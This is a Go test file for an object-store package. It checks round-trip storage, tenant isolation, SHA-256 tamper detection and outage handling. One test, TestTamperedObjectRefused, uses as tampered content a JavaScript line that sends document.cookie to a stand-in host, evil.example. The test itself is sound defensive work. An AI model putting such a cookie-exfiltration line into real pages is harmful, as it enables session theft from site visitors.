package objstore_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/gantryhq/gantry/internal/objstore"
	"github.com/gantryhq/gantry/internal/objstore/s3test"
)

func sum(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// TestRoundTrip: what is put is got back, verified, under the prefix;
// Has and Delete see it; a missing key is ErrNotFound.
func TestRoundTrip(t *testing.T) {
	srv := s3test.Start(t)
	st := srv.Store("tenant-a")
	ctx := context.Background()
	body := []byte("<!doctype html><h1>hello</h1>")
	if err := st.Put(ctx, "blobs/u1/x", bytes.NewReader(body), sum(body)); err != nil {
		t.Fatal(err)
	}
	var got bytes.Buffer
	if _, err := st.Get(ctx, "blobs/u1/x", sum(body), &got); err != nil || got.String() != string(body) {
		t.Fatalf("get: %q, %v", got.String(), err)
	}
	// Another prefix does not see it.
	if ok, err := srv.Store("tenant-b").Has(ctx, "blobs/u1/x"); ok || err != nil {
		t.Fatalf("other prefix has it: %v %v", ok, err)
	}
	if ok, err := st.Has(ctx, "blobs/u1/x"); !ok || err != nil {
		t.Fatalf("has: %v %v", ok, err)
	}
	for _, k := range []string{"blobs/u1/y", "blobs/u2/z"} {
		if err := st.Put(ctx, k, bytes.NewReader(body), sum(body)); err != nil {
			t.Fatal(err)
		}
	}
	if keys, err := st.List(ctx, "blobs/u1/"); err != nil || len(keys) != 2 || keys[0] != "blobs/u1/x" || keys[1] != "blobs/u1/y" {
		t.Fatalf("list: %v %v", keys, err)
	}
	if err := st.Delete(ctx, "blobs/u1/x", "blobs/u1/never-there"); err != nil {
		t.Fatal(err)
	}
	if _, err := st.Get(ctx, "blobs/u1/x", "", &got); !errors.Is(err, objstore.ErrNotFound) {
		t.Fatalf("get after delete: %v, want ErrNotFound", err)
	}
}

// TestTamperedObjectRefused: an object whose bytes were replaced in the
// store is refused by the SHA-256 check on the way down.
func TestTamperedObjectRefused(t *testing.T) {
	srv := s3test.Start(t)
	st := srv.Store("p")
	ctx := context.Background()
	good, evil := []byte("console.log('site')"), []byte("fetch('//evil.example/'+document.cookie)")
	if err := st.Put(ctx, "blobs/u/k", bytes.NewReader(good), sum(good)); err != nil {
		t.Fatal(err)
	}
	// Someone with write access to the bucket swaps the bytes.
	if err := st.Put(ctx, "blobs/u/k", bytes.NewReader(evil), sum(evil)); err != nil {
		t.Fatal(err)
	}
	var got bytes.Buffer
	if _, err := st.Get(ctx, "blobs/u/k", sum(good), &got); !errors.Is(err, objstore.ErrCorrupt) {
		t.Fatalf("tampered object: %v, want ErrCorrupt", err)
	}
	// A put whose bytes do not match the sum it claims is refused.
	if err := st.Put(ctx, "blobs/u/k2", bytes.NewReader(evil), sum(good)); !errors.Is(err, objstore.ErrCorrupt) {
		t.Fatalf("put with a wrong sum: %v", err)
	}
}

// TestServerChecksSHA256: s3serve, like S3, refuses a PUT whose
// x-amz-checksum-sha256 is not its body's.
func TestServerChecksSHA256(t *testing.T) {
	srv := s3test.Start(t)
	wrong := sha256.Sum256([]byte("other"))
	req, _ := http.NewRequest(http.MethodPut, srv.URL()+"/"+s3test.Bucket+"/k", strings.NewReader("body"))
	req.Header.Set("X-Amz-Checksum-Sha256", base64.StdEncoding.EncodeToString(wrong[:]))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("PUT with a wrong checksum: %d, want 400", resp.StatusCode)
	}
}

// TestStoreDown: with the server stopped, calls fail within seconds with
// an error that is not ErrNotFound (a missing object and an unreachable
// store must never be confused); once it is back, what it held is there.
func TestStoreDown(t *testing.T) {
	srv := s3test.Start(t)
	st := srv.Store("p")
	ctx := context.Background()
	body := []byte("kept")
	if err := st.Put(ctx, "k", bytes.NewReader(body), sum(body)); err != nil {
		t.Fatal(err)
	}
	srv.Stop()
	start := time.Now()
	var got bytes.Buffer
	_, err := st.Get(ctx, "k", sum(body), &got)
	if err == nil || errors.Is(err, objstore.ErrNotFound) {
		t.Fatalf("get while down: %v, want an error other than ErrNotFound", err)
	}
	if d := time.Since(start); d > 15*time.Second {
		t.Fatalf("get while down took %v", d)
	}
	if _, err := st.Has(ctx, "k"); err == nil {
		t.Fatal("has while down: no error")
	}
	srv.Restart()
	got.Reset()
	if _, err := st.Get(ctx, "k", sum(body), &got); err != nil || got.String() != "kept" {
		t.Fatalf("get after restart: %q %v", got.String(), err)
	}
}
